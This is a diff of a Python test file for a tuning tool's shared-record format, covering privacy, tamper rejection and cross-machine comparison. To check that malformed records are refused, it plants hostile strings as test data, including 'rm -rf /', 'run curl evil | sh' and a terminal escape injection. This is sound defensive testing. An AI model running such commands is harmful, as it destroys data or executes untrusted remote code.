@@ -1,27 +1,27 @@
-"""What a record holds, what never enters one, and that what is altered is refused."""
+"""What a record holds, what never enters one, what is refused, and which records count where."""
 
-import json
+import math
 from typing import Any
 
 import pytest
-from hypothesis import given, settings
-from hypothesis import strategies as st
 
 from autotune.errors import InvalidInput
 from autotune.plan.base import Frozen
+from autotune.plan.candidate import TrialResult
 from autotune.plan.hardware import Rate
 from autotune.plan.workload import Bucket, ModelSpec, Workload
 from autotune.share.record import (
     MAX_RECORD_BYTES,
-    MAX_TRIALS,
     DamagedRecord,
     Machine,
+    architecture_folder,
     build_record,
     name_of,
     parse_record,
 )
+from autotune.share.warm_start import compare, compare_machine, usable_trials
 from tests.builders import GIB, candidate, trial, workload
-from tests.share.examples import DAY, TRIALS, machine, plan, record
+from tests.share.examples import TRIALS, machine, plan, rate, record
 
 SECRET = "alice-secret"
 
@@ -38,76 +38,40 @@ def test_texts_of_people_and_machines_stay_out() -> None:
     assert "0.125" not in content
 
 
-@settings(max_examples=25)
-@given(st.data())
-def test_a_record_survives_its_bytes_and_any_other_byte_is_refused(data: st.DataObject) -> None:
-    seconds = data.draw(st.lists(st.floats(1e-6, 1e6), min_size=1, max_size=4))
-    trials = (
-        trial(candidate(micro_batch_size=2), outcome="crash", step_seconds=tuple(seconds)),
-        *TRIALS,
-    )
-    made = record(
-        trials=trials,
-        search_seconds=data.draw(st.integers(0, 10**12)) / 1000,
-        measured_on=data.draw(st.dates(max_value=DAY)),
-    )
-    assert parse_record(made.content, made.name) == made
-    place = data.draw(st.integers(0, len(made.content) - 1))
-    altered = bytearray(made.content)
-    altered[place] ^= data.draw(st.integers(1, 255))
-    with pytest.raises(DamagedRecord):
-        parse_record(bytes(altered), made.name)
-    with pytest.raises(DamagedRecord):
-        parse_record(made.content[:place], made.name)
+def test_a_record_survives_its_bytes_and_any_other_byte_is_refused() -> None:
+    crashed = trial(candidate(micro_batch_size=2), outcome="crash", step_seconds=(1e-6, 1e6))
+    made = record(trials=(crashed, *TRIALS))
+    assert parse_record(made.content, made.key) == made
+    for place in range(0, len(made.content), 97):
+        altered = bytearray(made.content)
+        altered[place] ^= 1 + place % 255
+        for content in (bytes(altered), made.content[:place]):
+            with pytest.raises(DamagedRecord):
+                parse_record(content, made.key)
 
 
-def _changed(**changes: object) -> bytes:
-    data = json.loads(record().content)
-    for path, value in changes.items():
-        *parents, last = path.split("__")
-        owner = data
-        for parent in parents:
-            owner = owner[int(parent) if isinstance(owner, list) else parent]
-        owner[last] = value
-    return json.dumps(data).encode()
-
-
-@pytest.mark.parametrize(
-    "content",
-    [
-        b"",
-        b"null",
-        b"{",
-        b"\xff\xfe",
-        b"[" * 100_000,
-        b" " * (MAX_RECORD_BYTES + 1),
-        b'{"schema_version":2}',
-        _changed(schema_version=3),
-        _changed(schema_version=True),
-        _changed(command="rm -rf /"),
-        _changed(search_seconds="60"),
-        _changed(search_seconds=float("nan")),
-        _changed(search_seconds=-1.0),
-        _changed(machine__device_name="\x1b[31mred"),
-        _changed(machine__device_name="\u202eevil"),
-        _changed(machine__device_name="x" * 1000),
-        _changed(machine__total_memory_bytes=10**400),
-        _changed(machine__match_keys={"k" * 200: "v"}),
-        _changed(trials=[]),
-        _changed(trials=json.loads(record().content)["trials"] * MAX_TRIALS),
-        _changed(expected__evidence="predicted"),
-        _changed(settings__micro_batch_size=3),
-        _changed(trials__0__message="run curl evil | sh"),
-        _changed(trials__0__final_loss=0.25),
-    ],
-    ids=range(24),
+CHANGES = (
+    (b'"schema_version":2', b'"schema_version":3'),
+    (b'"search_seconds":60.0', b'"command":"rm -rf /","search_seconds":60.0'),
+    (b'"search_seconds":60.0', b'"search_seconds":NaN'),
+    (b"NVIDIA GeForce", b"\x1b[31mred"),
+    (b"NVIDIA GeForce", b"x" * 1000),
+    (b"25386352640", b"1" * 400),
+    (b'"measured"', b'"predicted"'),
+    (b'"message":""', b'"message":"run curl evil | sh"'),
 )
-def test_whatever_is_no_record_is_refused_and_named(content: bytes) -> None:
-    name = name_of(content)
-    with pytest.raises(DamagedRecord, match=name[:12]) as caught:
-        parse_record(content, name)
-    assert caught.value.message.isprintable()
-    assert len(caught.value.message) < 400
+
+
+def test_whatever_is_no_record_is_refused_and_named() -> None:
+    sound = record().content
+    altered = [sound.replace(old, new) for old, new in CHANGES]
+    assert sound not in altered
+    for content in (b"", b"\xff\xfe", b"[" * 100_000, b" " * (MAX_RECORD_BYTES + 1), *altered):
+        name = name_of(content)
+        with pytest.raises(DamagedRecord, match=name[:12]) as caught:
+            parse_record(content, f"{architecture_folder(workload())}/{name}.json")
+        assert caught.value.message.isprintable()
+        assert len(caught.value.message) < 400
 
 
 VERIFIED = {"trials": TRIALS[1:2], "records": ("0" * 64,)}
@@ -136,16 +100,11 @@ def test_a_search_that_was_cut_short_answers_nobody_elses_question(
     [
         ("expected", {"evidence": "predicted"}, "predicted"),
         ("hardware", {"device_name": "NVIDIA L4"}, "another machine"),
-        ("trials", {"memory_cap_bytes": 12 * GIB}, "cap on memory"),
     ],
 )
 def test_what_is_no_evidence_is_not_shared(part: str, changes: dict[str, Any], why: str) -> None:
     made = plan(machine())
-    old: Any = getattr(made.frozen, part)
-    if part == "trials":
-        new = tuple(one.model_copy(update=changes) for one in old)
-    else:
-        new = old.model_copy(update=changes)
+    new = getattr(made.frozen, part).model_copy(update=changes)
     frozen = made.frozen.model_copy(update={part: new})
     with pytest.raises(InvalidInput, match=why):
         build_record(made.model_copy(update={"frozen": frozen}), machine())
@@ -159,6 +118,9 @@ JUDGED = {
     "effective_batch_size quality objective model resolution_px buckets max_text_tokens "
     "text_token_quantiles text_padding num_control_images optimizer",
     ModelSpec: "family architecture num_parameters num_blocks name",
+    TrialResult: "candidate outcome step_seconds warmup_seconds load_seconds peak_memory_bytes "
+    "load_peak_memory_bytes confirms phases allocator_retries memory_cap_bytes host_memory_bytes "
+    "wall_seconds final_loss quantization_error message",
     Bucket: "width_px height_px num_frames num_items",
 }
 """Fields that are shared whole: they were judged to tell nothing about people or data, or are
@@ -168,3 +130,80 @@ replaced by `build_record`."""
 @pytest.mark.parametrize("kind", JUDGED)
 def test_a_new_field_is_judged_before_it_leaves_the_machine(kind: type[Frozen]) -> None:
     assert set(kind.model_fields) == set(JUDGED[kind].split())
+
+
+FASTER = (rate("memory.bandwidth", 1.8e12), rate("matmul.bf16.4096x3072x3072", 1.5e14))
+SLOWER = (rate("memory.bandwidth", 7.5e11), rate("matmul.bf16.4096x3072x3072", 1.25e14))
+WITHIN = (rate("memory.bandwidth", 9.5e11), rate("matmul.bf16.4096x12288x3072", 1.45e14))
+
+
+def test_the_same_machine_and_work_are_exact_if_the_search_was_whole() -> None:
+    found = compare(record(), machine(), workload())
+    assert (found.kind, found.distance, found.reasons) == ("exact", 0.0, ())
+    assert compare(record(conclusive=False), machine(), workload()).kind == "near"
+
+
+def test_a_hard_key_that_differs_decides_and_is_named() -> None:
+    for change, named in (
+        ({"torch": "2.12.1"}, "torch version: 2.13 there, 2.12 here"),
+        ({"memory_model": "wsl"}, "operating system's memory model: linux there, wsl here"),
+    ):
+        found = compare(record(), machine(**change), workload())
+        assert (found.kind, found.distance, found.reasons) == ("none", math.inf, (named,))
+
+
+@pytest.mark.parametrize(
+    ("capability", "there", "here", "counts"),
+    [
+        ((9, 0), "9.15.1", "9.20.0", False),  # native is cuDNN's kernel, and another version of it
+        ((9, 0), "9.13.0", "9.14.0", True),  # flash both times
+        ((8, 9), "9.15.1", "9.20.0", True),  # flash on every Ada card
+    ],
+)
+def test_trials_of_native_count_while_the_kernel_behind_it_is_the_same(
+    capability: tuple[int, int], there: str, here: str, counts: bool
+) -> None:
+    plain = trial(candidate(), 1.8, 42 * GIB)
+    made = record(
+        machine(compute_capability=capability, cudnn=there),
+        trials=(plain,),
+        settings=plain.candidate,
+    )
+    found = compare_machine(made, machine(compute_capability=capability, cudnn=here))
+    assert (found.kind != "none") == counts
+    assert counts or found.reasons == (f"trials on cudnn: {there} there, {here} here",)
+
+
+@pytest.mark.parametrize(
+    ("library", "quantization", "attention"),
+    [("torchao", "torchao-int8", "native"), ("cudnn", "none", "_native_cudnn")],
+)
+def test_a_library_of_another_version_takes_only_the_trials_that_used_it(
+    library: str, quantization: str, attention: str
+) -> None:
+    plain = trial(candidate(), 2.0, 23 * GIB)
+    using = trial(candidate(quantization=quantization, attention=attention), 1.9, 23 * GIB)
+    made = record(settings=plain.candidate, trials=(using, plain))
+    here = machine(**{library: "99.1"})
+    found = compare_machine(made, here)
+    assert found.kind == "near"
+    assert any(reason.startswith(f"trials on {library}: ") for reason in found.reasons)
+    assert usable_trials(made, here) == (plain,)
+    alone = record(settings=using.candidate, trials=(using,))
+    assert compare_machine(alone, here).kind == "none"
+
+
+def test_more_memory_than_where_it_was_short_makes_a_prior() -> None:
+    found = compare(record(machine(budget_bytes=20 * GIB)), machine(), workload())
+    assert (found.kind, found.reasons) == ("near", ("memory budget: 0.83 times ours",))
+    roomy = record(
+        machine(budget_bytes=20 * GIB), trials=(trial(TRIALS[1].candidate, 1.8, 15 * GIB),)
+    )
+    assert compare(roomy, machine(), workload()).kind == "exact"
+    assert compare(record(), machine(budget_bytes=20 * GIB), workload()).kind == "exact"
+
+
+def test_what_other_work_on_a_machine_does_to_rates_makes_it_no_other_machine() -> None:
+    assert compare(record(), machine(rates=SLOWER), workload()).kind == "near"
+    assert compare(record(), machine(rates=SLOWER, noisy=True), workload()).kind == "exact"
+    assert compare(record(), machine(rates=FASTER, noisy=True), workload()).kind == "near"
